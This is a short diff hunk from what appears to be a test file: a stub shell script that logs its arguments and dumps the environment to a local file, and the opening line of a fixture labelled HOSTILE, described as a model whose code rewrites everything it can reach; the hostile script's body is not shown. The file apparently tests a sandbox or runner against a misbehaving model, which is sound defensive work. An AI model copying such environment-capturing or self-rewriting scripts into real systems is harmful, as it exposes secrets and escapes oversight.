@@ -27,7 +27,6 @@ for word in "$@"; do case "$word" in body=@*) cat "${word#body=@}" > said ;; esa
 GCPROF = """#!/usr/bin/env bash
 printf '%s\\n' "$@" >> words
 env > variables
-exit 0
 """
 # a model whose code rewrites all that it can reach, and speaks to the runner
 HOSTILE = """#!/usr/bin/env bash
